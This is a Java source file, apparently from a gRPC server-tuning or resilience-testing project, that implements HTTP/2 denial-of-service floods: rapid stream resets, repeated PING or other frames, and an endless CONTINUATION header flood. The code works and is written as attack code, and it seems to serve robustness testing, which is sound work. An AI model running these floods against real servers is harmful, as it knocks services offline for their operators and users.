package dev.grpctuning.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.function.BooleanSupplier;

/** Frames on one connection, as fast as the server takes them. */
final class Floods {

	/** Payload of the PING between the two GOAWAYs of gRPC's servers. */
	static final byte[] GRACEFUL_SHUTDOWN_PING = ByteBuffer.allocate(8).putLong(0x97ACEF001L).array();

	private Floods() {
	}

	static void resets(int port, BooleanSupplier goesOn, boolean data) throws IOException {
		try (Http2Socket socket = Http2Socket.open(port).readAll()) {
			for (int stream = 1; goesOn.getAsBoolean(); stream += 2) {
				socket.call(stream, Http2Socket.END_HEADERS, HostileCalls.HEADERS);
				if (data) {
					socket.message(stream, Http2Socket.END_STREAM, new byte[0]);
				}
				socket.frame(Http2Socket.RST_STREAM, 0, stream, new byte[] { 0, 0, 0, 8 });
				if (stream % 100 == 1) {
					socket.flush();
				}
			}
		}
	}

	static void frames(int port, BooleanSupplier goesOn, int type, int flags, byte[] payload, boolean reads)
			throws IOException {
		try (Http2Socket socket = Http2Socket.open(port)) {
			if (reads) {
				socket.readAll();
			}
			while (goesOn.getAsBoolean()) {
				for (int i = 0; i < 100; i++) {
					socket.frame(type, flags, 0, payload);
				}
				socket.flush();
			}
		}
	}

	static void continuations(int port, BooleanSupplier goesOn) throws IOException {
		ByteArrayOutputStream more = new ByteArrayOutputStream();
		Http2Socket.header(more, "x-more", "a".repeat(1024));
		try (Http2Socket socket = Http2Socket.open(port).readAll()) {
			socket.call(1, 0, HostileCalls.HEADERS);
			while (goesOn.getAsBoolean()) {
				socket.frame(Http2Socket.CONTINUATION, 0, 1, more.toByteArray()).flush();
			}
		}
	}

}
